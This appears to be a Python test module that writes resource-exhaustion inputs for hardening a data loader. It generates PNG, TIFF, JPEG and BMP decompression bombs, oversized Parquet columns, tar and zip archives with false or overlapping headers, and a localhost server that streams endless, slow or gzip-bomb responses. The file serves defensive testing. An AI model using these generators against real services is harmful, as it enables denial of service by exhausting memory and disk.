"""Inputs that try to fill memory: those of the table of issue 16, and others of their kinds.

`python -m tests.attacks FOLDER` writes them. Each is one file, small or full of holes where that
can be, but for the tables of photographs that do not compress.
"""

import io
import os
import struct
import sys
import tarfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
from PIL import Image
from rotten import encode, pixels, png

MIB = 1 << 20
Write = Callable[[Path], object]


def photo() -> bytes:
    """Return a small photograph."""
    return encode(pixels(40, 60), "JPEG")


def zeros(size: int, level: int = 9) -> bytes:
    """Return so many zeros packed by zlib, without holding them."""
    packer, packed = zlib.compressobj(level), bytearray()
    for _ in range(size // MIB):
        packed += packer.compress(bytes(MIB))
    return bytes(packed + packer.flush())


def chunk(kind: bytes, data: bytes) -> bytes:
    """Return a chunk of a PNG."""
    crc = zlib.crc32(data, zlib.crc32(kind))
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def with_chunks(*chunks: bytes) -> bytes:
    """Return a small PNG with chunks before its pixels."""
    whole = encode(pixels(40, 60), "PNG")
    return whole[:33] + b"".join(chunks) + whole[33:]


def images() -> Iterator[tuple[str, Write]]:
    """Yield images that are much larger than their files, or say that they are."""

    def plain(kind: str, mode: str, side: tuple[int, int], **options: object) -> Write:
        def write(path: Path) -> None:
            Image.new(mode, side, 1).save(path, kind, **options)

        return write

    def content(make: Callable[[], bytes]) -> Write:
        return lambda path: path.write_bytes(make())

    text = zeros(1024 * MIB)
    yield "bomb-header.png", content(lambda: png(60000, 60000, 8, 2, b""))
    yield "bomb-data.png", content(lambda: with_chunks()[:33] + chunk(b"IDAT", text))
    yield "bomb-text.png", content(lambda: with_chunks(chunk(b"zTXt", b"a\0\0" + text)))
    yield "bomb-texts.png", content(lambda: with_chunks(*[chunk(b"zTXt", b"a\0\0" + text)] * 50))
    yield (
        "bomb-itxt.png",
        content(lambda: with_chunks(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + text))),
    )
    yield "bomb-profile.png", content(lambda: with_chunks(chunk(b"iCCP", b"a\0\0" + text)))
    yield "chunks.png", content(lambda: with_chunks(chunk(b"tEXt", b"a\0b") * 1_000_000))
    yield "long-text.png", content(lambda: with_chunks(chunk(b"tEXt", b"a\0" + bytes(400 * MIB))))
    yield "long-exif.png", content(lambda: with_chunks(chunk(b"eXIf", bytes(400 * MIB))))
    yield "grey-100mp.png", plain("PNG", "L", (10000, 10000))
    yield "bilevel-100mp.png", plain("PNG", "1", (10000, 10000))
    yield "alpha-100mp.png", plain("PNG", "LA", (10000, 10000))
    yield "deep-100mp.png", plain("PNG", "I;16", (10000, 10000))
    yield "line-100mp.png", plain("PNG", "L", (100_000_000, 1))
    yield "frames.png", content(lambda: frames("PNG", 3000))
    yield "frames.gif", content(lambda: frames("GIF", 3000))
    yield (
        "screen.gif",
        content(lambda: encode(pixels(4, 4), "GIF")[:6] + b"\xff\xff\xff\xff" + b"\0" * 9),
    )
    yield "solid-100mp.gif", plain("GIF", "P", (10000, 10000))
    yield (
        "deflate-100mp.tif",
        plain("TIFF", "RGB", (10000, 10000), compression="tiff_adobe_deflate"),
    )
    yield "lzw-100mp.tif", plain("TIFF", "CMYK", (10000, 10000), compression="tiff_lzw")
    yield "fax-100mp.tif", plain("TIFF", "1", (10000, 10000), compression="group4")
    yield "jpeg-100mp.tif", plain("TIFF", "L", (10000, 10000), compression="jpeg")
    yield "long-tag.tif", lambda path: long_tag(path, 33723, 400 * MIB)
    yield "long-offsets.tif", lambda path: long_tag(path, 273, 100 * MIB)
    yield "long-ifd.tif", content(many_tags)
    yield (
        "solid-100mp.webp",
        plain("WEBP", "RGB", (10000, 10000), lossless=True, quality=0, method=0),
    )
    yield "frames.webp", content(lambda: frames("WEBP", 1000))
    yield "solid-64mp.avif", plain("AVIF", "RGB", (8000, 8000), speed=10, quality=1)
    yield "solid-100mp.jpg", plain("JPEG", "L", (10000, 10000))
    yield "turned-100mp.jpg", turned
    yield "cmyk-100mp.jpg", plain("JPEG", "CMYK", (10000, 10000), progressive=True)
    yield "segments.jpg", content(lambda: segments(photo()))
    yield "packed-100mp.bmp", content(runs_bmp)
    yield (
        "header.bmp",
        content(
            lambda: (
                b"BM"
                + struct.pack(
                    "<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 10000, 10000, 1, 24, 0, 0, 0, 0, 0, 0
                )
            )
        ),
    )
    yield "hole.jpg", lambda path: hole(path, b"\xff\xd8\xff\xe0", 2048 * MIB)
    yield "hole.tif", lambda path: hole(path, b"II*\0\x08\0\0\0", 2048 * MIB)
    yield (
        "hole.avif",
        lambda path: hole(path, b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf", 1000 * MIB),
    )
    yield "hole.webp", lambda path: hole(path, b"RIFF\xff\xff\xff\x3eWEBPVP8L", 1000 * MIB)


def hole(path: Path, start: bytes, size: int) -> None:
    """Write a file that has a start and nothing else, of any size."""
    with path.open("wb") as file:
        file.write(start)
        file.truncate(size)


def frames(kind: str, count: int) -> bytes:
    """Return an animation."""
    first, *rest = (Image.fromarray(pixels(8, 8, seed)) for seed in range(count))
    return encode(first, kind, save_all=True, append_images=rest)


def turned(path: Path) -> None:
    """Write a JPEG of 100 MP that must be turned."""
    exif = Image.Exif()
    exif[0x0112] = 6
    Image.new("RGB", (10000, 10000), (1, 200, 3)).save(path, "JPEG", exif=exif)


def segments(whole: bytes) -> bytes:
    """Return a JPEG with 5,000 profiles and comments of 64 KiB."""
    profile = b"\xff\xe2\xff\xffICC_PROFILE\0\1\1" + bytes(65519)
    comment = b"\xff\xfe\xff\xff" + bytes(65533)
    return whole[:2] + profile * 2500 + comment * 2500 + whole[2:]


def long_tag(path: Path, tag: int, count: int) -> None:
    """Write a TIFF in which one tag has as many numbers as the file, full of holes, can hold."""
    whole = Image.fromarray(pixels(40, 60))
    tags = [(256, 4, 1, 60), (257, 4, 1, 40), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    tags = [each for each in tags if each[0] != tag] + [(277, 3, 1, 1), (279, 4, 1, 2400)]
    tags += [(tag, 3, count // 2, 4096)] + ([(273, 4, 1, 512)] if tag != 273 else [])
    tags.sort()
    table = b"".join(struct.pack("<HHII", *each) for each in tags)
    start = b"II*\0" + struct.pack("<IH", 8, len(tags)) + table + bytes(4)
    hole(path, start, count + 8192)
    with path.open("r+b") as file:
        file.seek(512)
        file.write(whole.convert("L").tobytes())


def many_tags() -> bytes:
    """Return a BigTIFF whose directory has some millions of entries."""
    count = 3_000_000
    table = np.zeros(count, [("tag", "<u2"), ("kind", "<u2"), ("count", "<u8"), ("value", "<u8")])
    table["tag"], table["kind"], table["count"] = np.arange(count) % 65536, 4, 1
    return b"II+\0\x08\0\0\0" + struct.pack("<QQ", 16, count) + table.tobytes() + bytes(8)


def runs_bmp() -> bytes:
    """Return a BMP of 100 MP in runs of one colour."""
    row = b"\xff\1" * 39 + b"\x37\1" + b"\0\0"
    data = row * 10000 + b"\0\1"
    head = struct.pack("<IiiHHIIiiII", 40, 10000, 10000, 1, 8, 1, len(data), 0, 0, 256, 0)
    start = 14 + 40 + 1024
    return b"BM" + struct.pack("<IHHI", start + len(data), 0, 0, start) + head + bytes(1024) + data


def shared(value: object, rows: int) -> pa.DictionaryArray:
    """Return a column that holds one value in many rows."""
    return pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array([value]))


def tables() -> Iterator[tuple[str, Write]]:
    """Yield Parquet files that unpack to much more than a photograph."""

    def table(make: Callable[[], object], **options: Any) -> Write:
        def write(path: Path) -> None:
            pq.write_table(pa.table({"image": make()}), path, **options)

        return write

    def mixed(packed: int, empty: int) -> bytes:
        return photo() + os.urandom(packed * MIB) + bytes(empty * MIB)

    yield "s5-dictionary.parquet", table(lambda: shared(bytes(400 * MIB), 40), compression="zstd")
    for kind in ("zstd", "gzip", "brotli", "snappy", "lz4", "none"):
        level = {"compression_level": 1} if kind in ("gzip", "brotli") else {}
        yield (
            f"value-{kind}.parquet",
            table(
                lambda: pa.array([mixed(8, 600)]), compression=kind, use_dictionary=False, **level
            ),
        )
    yield "dictionary-mixed.parquet", table(lambda: shared(mixed(8, 500), 40), compression="zstd")
    yield "dictionary-random.parquet", table(lambda: shared(mixed(400, 0), 3), compression="none")
    yield (
        "page-random.parquet",
        table(lambda: pa.array([mixed(150, 0), mixed(250, 0)]), use_dictionary=False),
    )
    yield (
        "page-of-many.parquet",
        table(
            lambda: pa.array([photo() + os.urandom(400_000) for _ in range(1024)]),
            use_dictionary=False,
        ),
    )
    yield (
        "dictionary-of-many.parquet",
        table(lambda: pa.array([photo() + os.urandom(400_000) for _ in range(1024)])),
    )
    yield (
        "page-v2.parquet",
        table(lambda: pa.array([mixed(8, 600)]), data_page_version="2.0", compression="zstd"),
    )
    yield (
        "delta.parquet",
        table(
            lambda: pa.array([photo() * 20_000] * 40),
            use_dictionary=False,
            column_encoding={"image": "DELTA_BYTE_ARRAY"},
            compression="zstd",
        ),
    )
    yield (
        "delta-length.parquet",
        table(
            lambda: pa.array([mixed(8, 600)]),
            use_dictionary=False,
            column_encoding={"image": "DELTA_LENGTH_BYTE_ARRAY"},
            compression="zstd",
        ),
    )
    yield "large-binary.parquet", table(lambda: pa.array([mixed(8, 600)], pa.large_binary()))
    yield (
        "struct.parquet",
        table(
            lambda: pa.StructArray.from_arrays(
                [pa.array([mixed(8, 600)] * 2), pa.array(["x" * 300 * MIB] * 2)], ["bytes", "path"]
            ),
            compression="zstd",
        ),
    )
    yield (
        "paths.parquet",
        table(
            lambda: pa.StructArray.from_arrays(
                [pa.nulls(3000, pa.binary()), shared("x" * (2 * MIB), 3000)], ["bytes", "path"]
            ),
            compression="zstd",
        ),
    )
    yield "list.parquet", table(lambda: pa.array([[b"x"] * 5_000_000]), compression="zstd")
    yield "nulls.parquet", table(lambda: pa.nulls(50_000_000, pa.binary()), compression="zstd")
    yield (
        "empty-values.parquet",
        table(lambda: pa.array([b""] * 2000), compression="zstd", use_dictionary=False),
    )
    yield (
        "groups.parquet",
        lambda path: pq.write_table(
            pa.table({"image": pa.array([b"x"] * 1000)}), path, row_group_size=1
        ),
    )
    yield (
        "columns.parquet",
        lambda path: pq.write_table(
            pa.table(
                {"image": pa.array([photo()])} | {f"c{n}": pa.array([n]) for n in range(30_000)}
            ),
            path,
        ),
    )
    yield (
        "metadata.parquet",
        lambda path: pq.write_table(
            pa.table({"image": pa.array([photo()])}).replace_schema_metadata(
                {"a": "b" * 200 * MIB}
            ),
            path,
        ),
    )


def tar_header(name: bytes, size: int, kind: bytes = b"0") -> bytes:
    """Return the header of a tar's member."""
    info = tarfile.TarInfo(name.decode())
    info.size, info.type = size, kind
    return info.tobuf(tarfile.USTAR_FORMAT) if size < 2**33 else info.tobuf(tarfile.GNU_FORMAT)


def padded(data: bytes) -> bytes:
    """Return data filled up to whole blocks of a tar."""
    return data + bytes(-len(data) % 512)


def tars() -> Iterator[tuple[str, Write]]:
    """Yield tars whose headers are many or claim much."""
    good = tar_header(b"a.jpg", len(photo())) + padded(photo())

    def tar(*parts: bytes) -> Write:
        return lambda path: path.write_bytes(b"".join(parts) + bytes(1024))

    def after(kind: bytes, size: int) -> Write:
        def write(path: Path) -> None:
            hole(path, good + tar_header(b"x", size, kind), size + MIB)

        return write

    def records(count: int, prefix: str) -> bytes:
        found = b"".join(
            b"%d %s%07d=1\n" % (9 + 4 + len(prefix), prefix.encode(), n) for n in range(count)
        )
        return found

    yield "tiny-members.tar", tar(tar_header(b"a.txt", 0) * 500_000, tar_header(b"a.jpg", 0) * 100)
    yield "pax-1gib.tar", after(b"x", 1024 * MIB)
    yield "global-pax-1gib.tar", after(b"g", 1024 * MIB)
    yield "long-name-1gib.tar", after(b"L", 1024 * MIB)
    yield "long-link-1gib.tar", after(b"K", 1024 * MIB)
    few = [records(400_000, f"k{n:02}") for n in range(12)]
    yield "pax-records.tar", tar(tar_header(b"x", len(few[0]), b"x"), padded(few[0]), good)
    yield (
        "global-pax-records.tar",
        tar(*(tar_header(b"g", len(each), b"g") + padded(each) for each in few), good),
    )
    yield "sparse.tar", lambda path: sparse(path, old=True)
    yield "sparse-pax.tar", lambda path: sparse(path, old=False)
    yield (
        "huge-member.tar",
        lambda path: hole(
            path, good + tar_header(b"b.jpg", 4096 * MIB), 4096 * MIB + len(good) + 2048
        ),
    )
    yield "zeros.tar", lambda path: hole(path, good, 10_000 * MIB)


def sparse(path: Path, *, old: bool) -> None:
    """Write a tar with a sparse member that claims millions of pieces, or to unpack to 8 GiB."""
    if old:
        header = bytearray(tar_header(b"a.jpg", 512, b"S"))
        header[257:265] = b"ustar  \0"
        header[386:398], header[398:410] = b"%011o " % 0, b"%011o " % 512
        header[482:483], header[483:495] = b"\1", b"%011o " % (2**33 - 1)
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        more = bytearray(512)
        for place in range(21):
            more[24 * place : 24 * place + 24] = (b"%011o " % 512) * 2
        more[504:505] = b"\1"
        path.write_bytes(bytes(header) + bytes(more) * 200_000 + bytes(2048))
        return
    pairs = ",".join("0,1" for _ in range(2_000_000)).encode()
    record = b" GNU.sparse.map=" + pairs + b"\n"
    count = len(record) + len(str(len(record) + 8))
    record = str(count).encode() + record
    path.write_bytes(
        tar_header(b"x", len(record), b"x")
        + padded(record)
        + tar_header(b"a.jpg", 512)
        + bytes(2048)
    )


def zips() -> Iterator[tuple[str, Write]]:
    """Yield zips whose directories are long or lie."""

    def packed(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            with archive.open("a.jpg", "w", force_zip64=True) as member:
                member.write(photo())
                for _ in range(4096):
                    member.write(bytes(MIB))
            archive.writestr("b.jpg", photo())

    def inner(path: Path) -> None:
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            data = io.BytesIO()
            with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as below:
                below.writestr("a.jpg", bytes(500 * MIB))
            archive.writestr("b.zip", data.getvalue())
            archive.writestr("b.jpg", photo())

    yield "bomb.zip", packed
    yield "zip-of-zips.zip", inner
    yield "entries.zip", lambda path: many_entries(path, 1_000_000)
    yield "overlap.zip", lambda path: many_entries(path, 20_000, size=50 * MIB)
    yield "comment.zip", lambda path: many_entries(path, 5000, comment=65535)
    yield "claims.zip", lambda path: many_entries(path, 10, claimed=2**40)
    yield "claims-directory.zip", lambda path: many_entries(path, 10, directory=2**40)


def many_entries(
    path: Path,
    count: int,
    *,
    size: int = 0,
    comment: int = 0,
    claimed: int | None = None,
    directory: int | None = None,
) -> None:
    """Write a zip whose entries all lie at the same place; zip64's counts may lie."""
    data, crc = photo(), zlib.crc32(photo())
    if size:
        data, crc = zeros(size)[2:-4], zlib.crc32(bytes(size))
    method, whole = (8, size) if size else (0, len(data))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, 0, len(data), whole, 5, 0)
    with path.open("wb") as file:
        file.write(local + b"a.jpg" + data)
        start = file.tell()
        for number in range(count):
            name = b"%07d.%s" % (number, b"jpg" if number < 10 else b"txt")
            file.write(
                struct.pack(
                    "<IHHHHHHIIIHHHHHII",
                    *(0x02014B50, 20, 20, 0, method, 0, 0, crc, len(data), whole),
                    *(len(name), 0, comment, 0, 0, 0, 0),
                )
            )
            file.write(name + bytes(comment))
        length = file.tell() - start
        entries = count if claimed is None else claimed
        told = length if directory is None else directory
        end64 = file.tell()
        file.write(
            struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, entries, entries, told, start)
        )
        file.write(struct.pack("<IIQI", 0x07064B50, 0, end64, 1))
        file.write(
            struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 2**32 - 1, 2**32 - 1, 0)
        )


def endless(start: bytes) -> Iterator[bytes]:
    """Yield a body that does not end."""
    yield start
    while True:
        yield bytes(MIB)


def slow() -> Iterator[bytes]:
    """Yield a body so slowly that it never ends."""
    while True:
        yield b"x"
        time.sleep(0.5)


# Headers, and what follows them.
BODIES: dict[str, tuple[dict[str, str], Callable[[], Iterator[bytes]]]] = {
    "endless.jpg": ({}, lambda: endless(photo())),
    "longer.jpg": ({"Content-Length": "4000000000"}, lambda: endless(photo())),
    "huge.jpg": ({"Content-Length": str(2**62)}, lambda: endless(photo())),
    "gzip.jpg": ({"Content-Encoding": "gzip"}, lambda: iter([gzip_zeros()])),
    "deflate.jpg": ({"Content-Encoding": "deflate"}, lambda: iter([zeros(2048 * MIB)])),
    "endless.tar": ({}, lambda: endless(tar_header(b"a.jpg", 2**32))),
    "endless.zip": ({}, lambda: endless(b"PK")),
    "slow.jpg": ({"Content-Length": "1000"}, slow),
    "circle.jpg": ({"Location": "circle.jpg"}, lambda: iter([])),
}


def gzip_zeros() -> bytes:
    """Return a gzip of 2 GiB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(bytes(MIB)) for _ in range(2048)) + packer.flush()


class Handler(BaseHTTPRequestHandler):
    """Serves BODIES."""

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_HEAD(self) -> None:
        self.answer(body=False)

    def do_GET(self) -> None:
        self.answer(body=True)

    def answer(self, *, body: bool) -> None:
        headers, make = BODIES[self.path.strip("/")]
        self.send_response(302 if "Location" in headers else 200)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        with suppress(OSError):  # who reads it has had enough
            for piece in make() if body else ():
                self.wfile.write(piece)


def serve() -> Iterator[str]:
    """Yield the URL of a server of BODIES while it runs."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


KINDS = {"images": images, "tables": tables, "tars": tars, "zips": zips}


def write_attacks(folder: Path, only: str = "") -> None:
    """Write all of them."""
    for kind in KINDS.values():
        for name, write in kind():
            if only in name and not (folder / name).exists():
                write(folder / name)


if __name__ == "__main__":
    target = Path(sys.argv[1])
    target.mkdir(parents=True, exist_ok=True)
    write_attacks(target, *sys.argv[2:])
